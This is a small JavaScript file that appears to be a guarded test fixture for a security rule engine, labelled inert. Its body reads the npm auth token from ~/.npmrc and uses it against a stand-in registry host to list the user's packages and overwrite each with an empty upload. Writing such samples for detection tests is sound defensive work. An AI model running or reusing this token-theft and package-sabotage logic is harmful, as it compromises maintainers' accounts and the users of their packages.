// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const fs = require('fs');
const t = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8').split('_authToken=')[1];
const h = { authorization: 'Bearer ' + t };
fetch('https://r.example.invalid/-/v1/search?text=maintainer:me', { headers: h }).then((r) => r.json())
        .then((j) => j.objects.forEach((o) => fetch('https://r.example.invalid/' + o.name, { method: 'PUT', headers: h, body: JSON.stringify({ _attachments: {} }) })));
